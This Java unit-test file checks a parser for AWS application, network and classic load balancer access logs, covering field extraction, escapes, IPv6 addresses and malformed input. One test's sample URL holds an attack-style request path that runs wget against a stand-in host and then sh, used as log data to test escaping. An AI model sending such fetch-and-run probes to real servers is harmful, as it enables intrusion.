package dev.sluice.logs.format.aws;

import static org.assertj.core.api.Assertions.assertThat;

import dev.sluice.logs.line.Parsed;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

/**
 * Lines of the pages https://docs.aws.amazon.com/elasticloadbalancing/latest/application/load-balancer-access-logs.html,
 * .../network/load-balancer-access-logs.html and .../classic/access-log-collection.html.
 */
class TestLoadBalancerFormats {
    private static final String ALB_GROUP =
            "arn:aws:elasticloadbalancing:us-east-2:123456789012:targetgroup/my-targets/73e2d6bc24d8a067";
    private static final String ALB_HTTPS = "https 2018-07-02T22:23:00.186641Z app/my-loadbalancer/50dc6c495c0c9188"
            + " 192.168.131.39:2817 10.0.0.1:80 0.086 0.048 0.037 200 200 0 57"
            + " \"GET https://www.example.com:443/ HTTP/1.1\" \"curl/7.46.0\" ECDHE-RSA-AES128-GCM-SHA256 TLSv1.2 "
            + ALB_GROUP + " \"Root=1-58337281-1d84f3d73c47ec4e58577259\" \"www.example.com\""
            + " \"arn:aws:acm:us-east-2:123456789012:certificate/12345678-1234-1234-1234-123456789012\""
            + " 1 2018-07-02T22:22:48.364000Z \"authenticate,forward\" \"-\" \"-\" \"10.0.0.1:80\" \"200\" \"-\" \"-\""
            + " TID_1234abcd5678ef90 \"m.example.com\" \"-\" \"TransformSuccess\"";
    private static final String NLB = "tls 2.0 2020-04-01T08:51:42 net/my-network-loadbalancer/c6e77e28c25b2234"
            + " g3d4b5e8bb8464cd 72.21.218.154:51341 172.100.100.185:443 5 2 98 246 -"
            + " arn:aws:acm:us-east-2:671290407336:certificate/2a108f19-aded-46b0-8493-c63eb1ef4a99 -"
            + " ECDHE-RSA-AES128-SHA tlsv12 - my-network-loadbalancer-c6e77e28c25b2234.elb.us-east-2.amazonaws.com";
    private static final String ELB = "2015-05-13T23:39:43.945958Z my-loadbalancer 192.168.131.39:2817 10.0.0.1:80";

    private final AwsReading alb = new AwsReading("alb");
    private final AwsReading nlb = new AwsReading("nlb");
    private final AwsReading elb = new AwsReading("elb");

    @ParameterizedTest
    @CsvSource({
        "type, https",
        "ts, 2018-07-02T22:23:00.186641Z",
        "elb, app/my-loadbalancer/50dc6c495c0c9188",
        "client_ip, 192.168.131.39",
        "client_port, 2817",
        "target_ip, 10.0.0.1",
        "target_port, 80",
        "request_us, 86000",
        "target_us, 48000",
        "response_us, 37000",
        "status, 200",
        "target_status, 200",
        "bytes_in, 0",
        "bytes_out, 57",
        "method, GET",
        "url, https://www.example.com:443/",
        "protocol, HTTP/1.1",
        "request, ",
        "user_agent, curl/7.46.0",
        "ssl_cipher, ECDHE-RSA-AES128-GCM-SHA256",
        "ssl_protocol, TLSv1.2",
        "target_group_arn, " + ALB_GROUP,
        "trace_id, Root=1-58337281-1d84f3d73c47ec4e58577259",
        "domain_name, www.example.com",
        "chosen_cert_arn, arn:aws:acm:us-east-2:123456789012:certificate/12345678-1234-1234-1234-123456789012",
        "matched_rule_priority, 1",
        "ts_created, 2018-07-02T22:22:48.364Z",
        "actions_executed, 'authenticate,forward'",
        "redirect_url, ",
        "error_reason, ",
        "target_port_list, 10.0.0.1:80",
        "target_status_code_list, 200",
        "classification, ",
        "classification_reason, ",
        "conn_trace_id, TID_1234abcd5678ef90",
        "transformed_host, m.example.com",
        "transformed_uri, ",
        "request_transform_status, TransformSuccess",
        "ip_address, "
    })
    void readsEachFieldOfAnApplicationLoadBalancer(String column, String value) {
        Parsed line = alb.read(ALB_HTTPS);
        assertThat(line.error()).isEmpty();
        assertThat(line.at(column)).isEqualTo(value);
    }

    @Test
    void readsOlderLinesAndRequestsWithoutATarget() {
        Parsed line =
                alb.read("http 2018-11-30T22:23:00.186641Z app/my-loadbalancer/50dc6c495c0c9188 192.168.131.39:2817"
                        + " - 0.000 0.001 0.000 502 - 34 366 \"GET http://www.example.com:80/ HTTP/1.1\" \"curl/7.46.0\" - - "
                        + ALB_GROUP
                        + " \"Root=1-58337364-23a8c76965a2ef7629b185e3\" \"-\" \"-\" 0 2018-11-30T22:22:48.364000Z"
                        + " \"forward\" \"-\" \"LambdaInvalidResponse\"");
        assertThat(line.error()).isEmpty();
        assertThat(line.at("target_ip")).isNull();
        assertThat(line.at("target_port")).isNull();
        assertThat(line.at("target_us")).isEqualTo("1000");
        assertThat(line.at("target_status")).isNull();
        assertThat(line.at("error_reason")).isEqualTo("LambdaInvalidResponse");
        assertThat(line.at("conn_trace_id")).isNull();
    }

    @Test
    void readsRefusedRequestsWithBlanksAndEscapes() {
        Parsed line = alb.read(ALB_HTTPS
                .replace("0.086 0.048 0.037", "-1 -1 -1")
                .replace("443/ ", "443/shell?cd+/tmp;wget+ a.example/j\\x22aws;sh ")
                .replace("curl/7.46.0", "say \\\"hi\\\" \\\\ [x]"));
        assertThat(line.error()).isEmpty();
        assertThat(line.at("request_us")).isNull();
        assertThat(line.at("url")).isEqualTo("https://www.example.com:443/shell?cd+/tmp;wget+ a.example/j\"aws;sh");
        assertThat(line.at("protocol")).isEqualTo("HTTP/1.1");
        assertThat(line.at("user_agent")).isEqualTo("say \"hi\" \\ [x]");
        Parsed malformed = alb.read(
                ALB_HTTPS.replace("GET https://www.example.com:443/ HTTP/1.1", "- http://www.example.com:80- -"));
        assertThat(malformed.error()).isEmpty();
        assertThat(malformed.at("method")).isNull();
        assertThat(malformed.at("url")).isEqualTo("http://www.example.com:80-");
        assertThat(malformed.at("protocol")).isNull();
    }

    @Test
    void readsAddressesOfIpVersion6AndTellsBadOnes() {
        Parsed line =
                alb.read(ALB_HTTPS.replace("192.168.131.39:", "2001:db8::7:").replace("10.0.0.1:80 ", "[::1]:81 "));
        assertThat(line.error()).isEmpty();
        assertThat(line.at("client_ip")).isEqualTo("2001:db8::7");
        assertThat(line.at("client_port")).isEqualTo("2817");
        assertThat(line.at("target_ip")).isEqualTo("::1");
        Parsed bare = alb.read(ALB_HTTPS.replace("192.168.131.39:2817", "192.168.131.39"));
        assertThat(bare.error()).isEqualTo("BAD_ADDRESS client_ip 72");
        assertThat(bare.at("client_ip")).isNull();
        Parsed port = alb.read(ALB_HTTPS.replace(":2817", ":70000"));
        assertThat(port.error()).startsWith("BAD_NUMBER client_port");
        assertThat(port.at("client_ip")).isEqualTo("192.168.131.39");
    }

    @Test
    void readsANetworkLoadBalancer() {
        Parsed line = nlb.read(NLB + " h2 h2 \"h2\",\"http/1.1\" 2020-04-01T08:51:20");
        assertThat(line.error()).isEmpty();
        assertThat(line.at("ts")).isEqualTo("2020-04-01T08:51:42Z");
        assertThat(line.at("listener")).isEqualTo("g3d4b5e8bb8464cd");
        assertThat(line.at("client_port")).isEqualTo("51341");
        assertThat(line.at("destination_ip")).isEqualTo("172.100.100.185");
        assertThat(line.at("connection_us")).isEqualTo("5000");
        assertThat(line.at("tls_handshake_us")).isEqualTo("2000");
        assertThat(line.at("bytes_in")).isEqualTo("98");
        assertThat(line.at("bytes_out")).isEqualTo("246");
        assertThat(line.at("incoming_tls_alert")).isNull();
        assertThat(line.at("ssl_cipher")).isEqualTo("ECDHE-RSA-AES128-SHA");
        assertThat(line.at("ssl_protocol")).isEqualTo("tlsv12");
        assertThat(line.at("domain_name")).startsWith("my-network-loadbalancer-c6e77e28c25b2234.elb");
        assertThat(line.at("alpn_client_preference_list")).isEqualTo("\"h2\",\"http/1.1\"");
        assertThat(line.at("ts_created")).isEqualTo("2020-04-01T08:51:20Z");
        assertThat(nlb.read(NLB).error()).isEmpty();
        assertThat(nlb.read(NLB + " - - -").at("alpn_client_preference_list")).isNull();
    }

    @Test
    void readsAClassicLoadBalancer() {
        Parsed https = elb.read(ELB + " 0.000086 0.001048 0.001337 200 200 0 57"
                + " \"GET https://www.example.com:443/ HTTP/1.1\" \"curl/7.38.0\" DHE-RSA-AES128-SHA TLSv1.2");
        assertThat(https.error()).isEmpty();
        assertThat(https.at("ts")).isEqualTo("2015-05-13T23:39:43.945958Z");
        assertThat(https.at("elb")).isEqualTo("my-loadbalancer");
        assertThat(https.at("backend_port")).isEqualTo("80");
        assertThat(https.at("request_us")).isEqualTo("86");
        assertThat(https.at("backend_us")).isEqualTo("1048");
        assertThat(https.at("response_us")).isEqualTo("1337");
        assertThat(https.at("url")).isEqualTo("https://www.example.com:443/");
        assertThat(https.at("ssl_protocol")).isEqualTo("TLSv1.2");
        Parsed tcp = elb.read(ELB + " 0.001069 0.000028 0.000041 - - 82 305 \"- - - \" \"-\" - -");
        assertThat(tcp.error()).isEmpty();
        assertThat(tcp.at("status")).isNull();
        assertThat(tcp.at("bytes_out")).isEqualTo("305");
        for (String column : new String[] {"method", "url", "protocol", "request", "user_agent", "ssl_cipher"}) {
            assertThat(tcp.at(column)).isNull();
        }
        assertThat(elb.read(ELB + " 0.1 0.2 0.3 200 200 0 29 \"GET http://www.example.com:80/ HTTP/1.1\"")
                        .error())
                .isEmpty();
    }

    @ParameterizedTest
    @ValueSource(
            strings = {"", "Enable ConnectionLog for ELB", "hello world", "http 2018-07-02Q22:23:00 app", "[ \" \\"})
    void whatHasNoTimeIsNoRow(String line) {
        for (AwsReading reading : new AwsReading[] {alb, nlb, elb}) {
            assertThat(reading.read(line).columns().rejectCode()).isEqualTo("NOT_IN_FORMAT");
        }
    }
}
